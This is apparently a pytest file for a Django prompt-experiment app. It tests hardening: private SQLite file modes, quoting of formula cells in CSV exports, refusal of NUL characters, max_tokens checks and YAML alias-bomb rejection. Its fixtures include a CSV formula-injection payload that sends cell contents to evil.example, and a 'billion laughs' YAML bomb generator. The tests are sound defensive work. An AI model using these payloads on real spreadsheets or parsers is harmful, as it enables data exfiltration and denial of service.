"""Small hardening: private SQLite files, formula-safe CSV exports, NUL
characters refused, positive max_tokens, YAML alias bombs refused."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from experiments.admin.experiments import ExperimentSpecForm
from experiments.admin.prompts import PromptForm
from experiments.dataset_io import (
    DatasetFileError,
    ItemData,
    export_csv,
    export_jsonl,
    parse_dataset,
)
from experiments.models import Run
from experiments.spec import SpecInvalid, parse_spec_text, validate_spec
from experiments.tests.api_helpers import build_world, client_as
from experiments.tests.factories import spec_doc

REPO = Path(__file__).resolve().parents[2]


@pytest.fixture
def world(alice, bob, carol, charlie, project):
    return build_world(alice, bob, carol, charlie, project)


@pytest.fixture
def owner(world):
    return client_as(world, "owner")


def errors_of(doc) -> dict[str, str]:
    result = validate_spec(doc)
    assert not result.ok, "expected the spec to be refused"
    return {e.path: e.message for e in result.errors}


# --- SQLite files are private ------------------------------------------------
def _open_sqlite_database(data_dir: Path) -> dict[str, int]:
    """Start the app on a fresh SQLite data dir with a permissive umask and
    write to the database, so SQLite has its -wal and -shm files open."""
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("DATABASE_URL", "REDIS_URL", "SECRET_KEY")
        and k != "PROMPTLOOPER_FERNET_KEYS"
    }
    code = (
        "import django, json, os; django.setup()\n"
        "from django.db import connection\n"
        "with connection.cursor() as c:\n"
        "    c.execute('create table t (x)'); c.execute('insert into t values (1)')\n"
        "    assert os.path.exists(connection.settings_dict['NAME'] + '-wal')\n"
        "    modes = {f: os.stat(os.path.join(os.environ['PROMPTLOOPER_DATA_DIR'], f))"
        ".st_mode for f in os.listdir(os.environ['PROMPTLOOPER_DATA_DIR'])}\n"
        "print(json.dumps(modes))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=REPO,
        env={
            **env,
            "PROMPTLOOPER_DATA_DIR": str(data_dir),
            "DJANGO_SETTINGS_MODULE": "promptlooper_site.settings",
        },
        capture_output=True,
        text=True,
        timeout=120,
        umask=0o022,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_the_sqlite_database_and_its_wal_files_are_readable_by_their_owner_only(
    tmp_path,
):
    data_dir = tmp_path / "data"
    modes = _open_sqlite_database(data_dir)
    for name in ("promptlooper.sqlite3", "promptlooper.sqlite3-wal",
                 "promptlooper.sqlite3-shm"):  # fmt: skip
        assert stat.S_IMODE(modes[name]) == 0o600, name
    assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700


def test_a_world_readable_database_left_by_an_older_version_is_tightened(tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    database = data_dir / "promptlooper.sqlite3"
    database.touch()
    database.chmod(0o644)
    modes = _open_sqlite_database(data_dir)
    assert stat.S_IMODE(modes["promptlooper.sqlite3"]) == 0o600


# --- CSV exports are formula-safe ----------------------------------------------
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
             "\tx", "\rx", "'=already quoted"]  # fmt: skip


def test_dataset_csv_cells_a_spreadsheet_would_evaluate_are_quoted_and_reimport():
    items = [
        ItemData({"text": value, "n": "-3"}, expected, ["-tag", "ok"])
        for value, expected in zip(
            DANGEROUS, ["=cmd", {"k": "@x"}, 5, "-4", None, "fine", "+y"], strict=True
        )
    ]
    text = export_csv(items)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-3", cell
    assert parse_dataset(text, "csv") == items
    first = json.loads(export_jsonl(items).splitlines()[0])
    assert first["input"]["text"] == DANGEROUS[0]  # JSONL is unchanged


@pytest.mark.django_db
def test_exports_through_the_api_quote_formulas_in_csv_but_not_in_jsonl(world, owner):
    run = Run.objects.get(pk=world.ids["run"])
    run.output_text, run.error_message = DANGEROUS[0], "@error"
    run.save()
    sweep = world.ids["sweep"]
    table = owner.get(f"/api/sweeps/{sweep}/export/?format=csv")
    text = b"".join(table.streaming_content).decode()
    record = next(
        r for r in csv.DictReader(io.StringIO(text)) if r["run_id"] == str(run.pk)
    )
    assert record["output_text"] == "'" + DANGEROUS[0]
    assert record["error_message"] == "'@error"
    lines = owner.get(f"/api/sweeps/{sweep}/export/?format=jsonl")
    rows = [json.loads(x) for x in b"".join(lines.streaming_content).splitlines()]
    same = next(r for r in rows if r["run_id"] == run.pk)
    assert same["output_text"] == DANGEROUS[0]

    url = f"/api/datasets/{world.ids['dataset']}/"
    upload = "\n".join(json.dumps({"input": {"passage": v}}) for v in DANGEROUS)
    replaced = owner.post(
        f"{url}import/",
        {"file": SimpleUploadedFile("x.jsonl", upload.encode()), "mode": "replace"},
        format="multipart",
    )
    assert replaced.status_code == 200, replaced.json()
    exported = owner.get(f"{url}export/?format=csv").content
    cells = [row[0] for row in csv.reader(io.StringIO(exported.decode()))][1:]
    assert cells == ["'" + v for v in DANGEROUS]
    again = owner.post(
        f"{url}import/",
        {"file": SimpleUploadedFile("x.csv", exported), "mode": "replace"},
        format="multipart",
    )
    assert again.status_code == 200 and again.json()["added"] == 0  # unchanged


# --- NUL characters -------------------------------------------------------------
def test_the_validator_refuses_nul_anywhere_with_the_field_path():
    doc = spec_doc(description="a\x00b")
    doc["prompts"][0]["messages"][1]["content"] = "{{ passage }}\x00"
    doc["params"] = {"stop": ["\x00"], "ke\x00y": 1}
    errors = errors_of(doc)
    message = "must not contain a NUL character (\\x00)"
    assert errors["description"] == message
    assert errors["prompts[0].messages[1].content"] == message
    assert errors["params.stop[0]"] == message
    assert errors["params.ke\\x00y"] == message


def test_dataset_files_with_nul_are_refused_with_the_line_number():
    with pytest.raises(DatasetFileError) as csv_error:
        parse_dataset("passage,expected\nfine,1\nbad\x00,2\n", "csv")
    assert [(e.line, "NUL" in e.message) for e in csv_error.value.errors] == [(3, True)]
    jsonl = '{"input": {"a": "ok"}}\n{"input": {"a": "x\\u0000"}}\n{"ta\\u0000g": 1}\n'
    with pytest.raises(DatasetFileError) as jsonl_error:
        parse_dataset(jsonl, "jsonl")
    assert [e.line for e in jsonl_error.value.errors] == [2, 3]


@pytest.mark.django_db
def test_nul_through_the_api_is_a_400_not_a_server_error(world, owner):
    experiment = owner.get(f"/api/experiments/{world.ids['experiment']}/").json()
    spec = {**experiment["spec"], "description": "nul\x00here"}
    refused = owner.post("/api/experiments/", spec)
    assert refused.status_code == 400
    assert refused.json()["errors"][0]["path"] == "description"
    checked = owner.post("/api/experiments/validate/", spec).json()
    assert checked["valid"] is False

    url = f"/api/datasets/{world.ids['dataset']}/import/"
    upload = b'{"input": {"passage": "x\\u0000y"}}\n'
    response = owner.post(
        url, {"file": SimpleUploadedFile("x.jsonl", upload)}, format="multipart"
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["path"] == "line 1"

    endpoint = f"/api/endpoints/{world.ids['endpoint']}/"
    prices = {"m\x00": {"input_per_mtok": 1}}
    patched = owner.patch(endpoint, {"prices": prices}, format="json")
    assert patched.status_code == 400
    assert patched.json()["errors"][0]["path"] == "prices"
    named = owner.patch(endpoint, {"name": "a\x00b"}, format="json")
    assert named.status_code == 400


@pytest.mark.django_db
def test_the_admin_prompt_form_refuses_nul_in_messages(project):
    form = PromptForm(
        data={
            "project": project.pk,
            "name": "p",
            "messages": json.dumps([{"role": "user", "content": "a\x00"}]),
        }
    )
    assert not form.is_valid()
    assert "NUL" in str(form.errors["messages"])


# --- max_tokens -------------------------------------------------------------------
@pytest.mark.parametrize("value", [-5, 0, [64, 0], True, 1.5])
def test_max_tokens_must_be_a_positive_integer(value):
    errors = errors_of(spec_doc(params={"max_tokens": value}))
    assert errors["params.max_tokens"].startswith("must be a positive integer")


def test_positive_max_tokens_are_accepted():
    assert validate_spec(spec_doc(params={"max_tokens": [1, 64]})).ok


# --- YAML alias bombs -------------------------------------------------------------
def billion_laughs() -> str:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_a_yaml_alias_bomb_is_refused_before_anything_walks_it():
    with pytest.raises(SpecInvalid) as refused:
        parse_spec_text(billion_laughs())
    assert "aliases expand the document" in str(refused.value)
    with pytest.raises(SpecInvalid, match="contains it"):
        parse_spec_text("a: &x [1, *x]\n")


def test_modest_yaml_anchors_still_work():
    text = (
        "base: &base {role: user, content: hi}\n"
        "messages: [*base, *base, {<<: *base, content: bye}]\n"
    )
    assert parse_spec_text(text)["messages"][2] == {"role": "user", "content": "bye"}


@pytest.mark.django_db
def test_the_validate_command_and_the_admin_refuse_an_alias_bomb(manage, tmp_path):
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(billion_laughs())
    done = manage("validate_experiment", str(bomb))
    assert done.returncode == 1
    assert "aliases expand the document" in done.stderr
    form = ExperimentSpecForm(data={"spec_text": billion_laughs()})
    assert not form.is_valid()
    assert "aliases expand the document" in str(form.errors["spec_text"])


# --- NUL characters in the admin's JSON fields ----------------------------------


@pytest.mark.django_db
def test_admin_refuses_a_nul_in_endpoint_prices_at_the_field(admin_client, project):
    from django.urls import reverse

    from experiments.models import Endpoint

    form = {
        "project": project.pk,
        "name": "nul-prices",
        "kind": "openai",
        "base_url": "http://127.0.0.1:9/v1",
        "max_concurrency": 8,
        "timeout_s": 60,
        "prices": '{"m\\u0000": {"input_per_mtok": 1}}',
    }
    response = admin_client.post(reverse("admin:experiments_endpoint_add"), form)
    assert response.status_code == 200, "the form should have been refused"
    errors = response.context["adminform"].form.errors
    assert "NUL" in errors["prices"][0]
    assert not Endpoint.objects.filter(name="nul-prices").exists()


@pytest.mark.django_db
def test_admin_refuses_a_nul_in_a_dataset_item_at_the_field(admin_client, project):
    from django.urls import reverse

    from experiments.models import Dataset, DatasetItem

    dataset = Dataset.objects.create(project=project, name="nul-items")
    form = {
        "dataset": dataset.pk,
        "position": 0,
        "input": '{"passage": "a\\u0000b"}',
        "expected": "null",
        "tags": "[]",
    }
    response = admin_client.post(reverse("admin:experiments_datasetitem_add"), form)
    assert response.status_code == 200, "the form should have been refused"
    errors = response.context["adminform"].form.errors
    assert "passage" in errors["input"][0] and "NUL" in errors["input"][0]
    assert not DatasetItem.objects.filter(dataset=dataset).exists()
